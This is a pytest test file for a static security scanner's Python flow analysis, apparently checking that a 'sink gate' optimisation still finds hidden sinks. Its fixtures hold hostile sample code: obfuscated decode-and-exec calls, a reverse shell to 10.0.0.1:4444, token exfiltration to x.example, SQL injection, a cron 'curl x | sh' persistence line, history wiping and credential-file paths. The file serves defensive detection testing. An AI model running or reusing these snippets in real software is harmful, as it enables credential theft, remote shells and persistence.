"""The flow analysis skips its scope passes when no call of a module can resolve to anything
they act on (python.sink_gate). Each script below reaches a sink only through a route the gate
must see (aliases, constructor aliases, getattr, builtins, untrusted input, tools): each must
still be found, and every script, gated or not, must give exactly the facts of the full passes."""
from __future__ import annotations

import pathlib

import pytest

from scanner.document import Document
from scanner.scripts import common as c
from scanner.scripts import fact_kinds as K
from scanner.scripts.python import flow as pf

B64 = "import base64\n"
SCRIPTS = {
    "import-alias": B64 + "from os import popen as p2\nrunner = p2\nrunner(base64.b64decode(BLOB))\n",
    "module-alias": B64 + "import subprocess as sp\nsp.run(base64.b64decode(BLOB), shell=True)\n",
    "attribute-alias": B64 + "import os\nrun = os.system\nrun(base64.b64decode(BLOB))\n",
    "constructor-alias": "import os, requests\ns = requests.session()\ns.put('https://x.example/c', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
    "getattr-folded": B64 + "import os\ngetattr(os, 'sys' + 'tem')(base64.b64decode(BLOB))\n",
    "builtins-subscript": B64 + "__builtins__['ex' + 'ec'](base64.b64decode(BLOB))\n",
    "vars-subscript": B64 + "vars()['ev' + 'al'](base64.b64decode(BLOB))\n",
    "dunder-builtins": B64 + "__builtins__.exec(base64.b64decode(BLOB))\n",
    "import-module": B64 + "from importlib import import_module\nm = import_module('o' + 's')\nm.system(base64.b64decode(BLOB))\n",
    "sending-method": "import os\nclient.sendmail('a@x.example', 'b@x.example', os.environ['GITHUB_TOKEN'])\n",
    "os-exec-prefix": B64 + "import os\nos.execlp(base64.b64decode(BLOB).decode(), 'x')\n",
    "network-prefix": "import http.client as hc, os\nc = hc.HTTPSConnection('x.example')\nc.request('POST', '/', os.environ['NPM_TOKEN'])\n",
    "urlopen-prefix": "import urllib.request, os\nurllib.request.urlopen('https://x.example', data=os.environ['NPM_TOKEN'])\n",
    "argv-ldap": "import sys, ldap\nconn = ldap.initialize('ldap://x')\nconn.search_s('(uid=%s)' % sys.argv[1], 2)\n",
    "argv-find-built": "import sys\ncoll.find(\"name == '%s'\" % sys.argv[1])\n",
    "argv-no-weak-sink": "import sys\nname = sys.argv[1]\nprint('{}'.format(name), name.find('x'), text.search(name))\n",
    "input-template": "name = input()\ntpl = '{}' + name\ntpl.format(1)\n",
    "tool-return": "import os\n@mcp.tool()\ndef env():\n    return dict(os.environ)\n",
    "sql-param": "def find(db, name):\n    db.execute(f\"SELECT * FROM t WHERE n = '{name}'\")\n",
    "sql-raw": "def find(model, name):\n    return model.objects.raw('SELECT * FROM t WHERE n = ' + name)\n",
    "capture": "from PIL import ImageGrab\nImageGrab.grab().save('/tmp/s.png')\n",
    "setuid": "import os\nos.chmod('/tmp/x', 0o4755)\n",
    "reverse-shell": "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
                     "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
    "no-sink": "import json, re\n\ndef load(path):\n    with open(path) as f:\n        return json.load(f)\n\n"
               "def words(s, args):\n    return re.compile(r'\\w+').findall(s.format(args.raw))\n",
}
# Scripts whose sink only the scope passes find, and the fact each must give.
EXPECTED = {
    "import-alias": K.DECODE_EXEC, "module-alias": K.DECODE_EXEC, "attribute-alias": K.DECODE_EXEC,
    "constructor-alias": K.CRED_EXFIL, "getattr-folded": K.DECODE_EXEC, "builtins-subscript": K.DECODE_EXEC, "vars-subscript": K.DECODE_EXEC,
    "dunder-builtins": K.DECODE_EXEC, "import-module": K.DECODE_EXEC, "sending-method": K.CRED_EXFIL,
    "os-exec-prefix": K.DECODE_EXEC, "network-prefix": K.CRED_EXFIL, "urlopen-prefix": K.CRED_EXFIL,
    "argv-ldap": K.INPUT_TO_SINK, "argv-find-built": K.INPUT_TO_SINK, "input-template": K.INPUT_TO_SINK, "tool-return": K.SENSITIVE_READ,
    "sql-param": K.INPUT_TO_SINK, "sql-raw": K.INPUT_TO_SINK, "capture": K.SURVEILLANCE, "setuid": K.PRIVILEGE, "reverse-shell": K.REVERSE_SHELL,
}


def _facts(text: str, path: str = "tool.py") -> list[tuple]:
    doc = Document(path, text)
    return [(f.kind, f.start, f.end, f.message, f.severity, f.properties) for f in pf.analyze(doc)]


def _ungated(monkeypatch) -> None:
    monkeypatch.setattr(pf, "scope_passes_needed", lambda *args: True)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_a_sink_reached_only_through_the_gated_passes_is_found(name):
    assert EXPECTED[name] in {f[0] for f in _facts(SCRIPTS[name])}


@pytest.mark.parametrize("name", sorted(SCRIPTS))
def test_gated_facts_equal_the_full_passes_facts(name, monkeypatch):
    gated = _facts(SCRIPTS[name])
    _ungated(monkeypatch)
    assert gated == _facts(SCRIPTS[name])


def test_a_module_without_sink_names_skips_the_scope_passes(monkeypatch):
    def refuse(self, *args):
        raise AssertionError("scope passes ran")

    monkeypatch.setattr(pf.PythonFlow, "scope_passes", refuse)
    _facts(SCRIPTS["no-sink"])  # re.compile, str.format and a `raw` attribute that is never called are no sinks here
    _facts(SCRIPTS["argv-no-weak-sink"])  # untrusted input, but no call a query or template sink takes it from
    with pytest.raises(AssertionError):
        _facts(SCRIPTS["input-template"])


def test_the_repositorys_own_python_gives_the_same_facts_gated_or_not(monkeypatch):
    """Real modules of every shape (sinks, aliases, dynamic access, none of them): the gate changes no fact."""
    root = pathlib.Path(__file__).resolve().parents[1]
    paths = sorted(p for d in ("scanner", "tests", "benchmarks") for p in (root / d).rglob("*.py"))
    texts = {str(p.relative_to(root)): p.read_text(encoding="utf-8") for p in paths}
    gated = {p: _facts(t, p) for p, t in texts.items()}
    _ungated(monkeypatch)
    assert gated == {p: _facts(t, p) for p, t in texts.items()}


def _constant_shapes_one_string_at_a_time(flow) -> None:
    """constant_shapes as it read every string before it read only those a gate names (the reference)."""
    from scanner.models import Confidence, Severity
    from scanner.scripts.python import sinks as ps

    seen, recon = set(), {}
    for node in flow.strings:
        s = node.value
        if id(node) in flow.docstrings or len(s) > 400 or ps._looks_like_regex(s) or len(s.split()) > 12:
            continue
        low, pathlike, shaped = s.lower(), s.count(" ") <= 3, c.may_have_shape(s.lower())
        for kind, test, sev, msg in (ps.constant_tests(flow.writes, low, pathlike) if shaped else ()):
            if test.test(s) and (kind, low) not in seen:
                seen.add((kind, low))
                flow.emit(kind, node, msg, sev, Confidence.MEDIUM, value=s[:120])
        if pathlike and c.is_strong_credential_path(s) and (K.SENSITIVE_READ, low) not in seen:
            seen.add((K.SENSITIVE_READ, low))
            flow.emit(K.SENSITIVE_READ, node, "Names a credential store or system secret file", Severity.MEDIUM, Confidence.MEDIUM, value=s[:120])
        if shaped and c.RECON_TEXT.test(s):
            recon.setdefault(low, node)
    if len(recon) >= 2:
        first = min(recon.values(), key=lambda n: (n.lineno, n.col_offset))
        flow.emit(K.RECON, first, f"Collects system account, process, network or hardware details ({len(recon)} sources)",
                  Severity.MEDIUM, Confidence.LOW, sources=sorted(recon)[:10])


CONSTANTS = '''"""Module docstring naming ~/.ssh/id_rsa and /etc/crontab: documentation, not an act."""
import os
PATHS = ["~/.ssh/id_rsa", "/etc/cron.d/job", "~/.ssh/id_rsa", "/etc/passwd", "/proc/self/status", "uname -a"]
LONG = "%s"
RX = r"\\.ssh/id_\\w+"
def f():
    """~/.aws/credentials in a docstring."""
    open("/etc/cron.d/job", "w").write("* * * * * curl x | sh")
    os.system("history -c; rm -rf ~/.bash_history")
    return ["/etc/shadow", "http://169.254.169.254/latest/meta-data/", "ÄÖ ~/.kube/config", "/etc/crontab"]
''' % ("/etc/cron.d/x " * 40)


@pytest.mark.parametrize("text", [CONSTANTS, CONSTANTS.replace("ÄÖ ", ""), "x = 1\n", 's = "no shape here"\n'])
def test_constant_shapes_reads_only_gated_strings_with_the_same_facts(text, monkeypatch):
    from scanner.scripts.python import sinks as ps

    gated = _facts(text)
    monkeypatch.setattr(ps, "constant_shapes", _constant_shapes_one_string_at_a_time)
    assert gated == _facts(text)
    if text is CONSTANTS:
        assert {K.PERSISTENCE, K.SENSITIVE_READ, K.CLOUD_METADATA, K.DEFENSE_EVASION} <= {f[0] for f in gated}
